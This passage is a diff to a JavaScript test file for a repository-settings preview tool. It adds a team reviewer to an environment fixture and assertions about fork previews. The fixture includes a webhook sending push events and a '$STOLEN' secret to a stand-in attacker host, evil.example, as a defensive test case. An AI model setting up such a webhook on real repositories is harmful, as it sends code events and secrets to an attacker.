@@ -15,7 +15,7 @@ webhooks:
   - {config: {url: "https://evil.example/made-up-hook", content_type: json, secret: $STOLEN}, events: [push]}
 environments:
   - name: made-up-environment
-    reviewers: [{type: User, id: 4242}]
+    reviewers: [{type: User, id: 4242}, {team: made-up-reviewers}]
 `;
 const repository = {
   labels: [{ name: 'bug', color: 'cccccc', description: null }],
@@ -49,6 +49,8 @@ describe.each(events)('a preview of a fork by %s', (event) => {
     expect(outputs).not.toContain('cccccc');
     expect(outputs).not.toContain('made-up-hook');
     expect(outputs).toContain('bbbbbb');
+    expect(outputs).toContain('made-up-reviewers');
+    expect(told(result, 'note').join()).toContain('looks no name up');
   });
 
   it('a preview of a fork cannot be made to read the repository [12.7]', async () => {
